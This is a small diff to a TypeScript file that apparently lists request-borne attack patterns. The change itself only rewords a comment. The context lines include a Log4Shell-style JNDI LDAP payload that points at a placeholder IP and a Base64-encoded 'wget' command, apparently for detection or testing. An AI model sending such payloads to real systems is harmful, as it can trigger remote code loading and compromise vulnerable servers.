@@ -17,7 +17,7 @@ import {
   WORDPRESS,
 } from './sites.ts';
 
-// Attacks within a request, and interfaces that nobody should see.
+// Attacks within a request, and interfaces that are not for the public.
 
 const JNDI = [
   `\${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/d2dldA==}`,
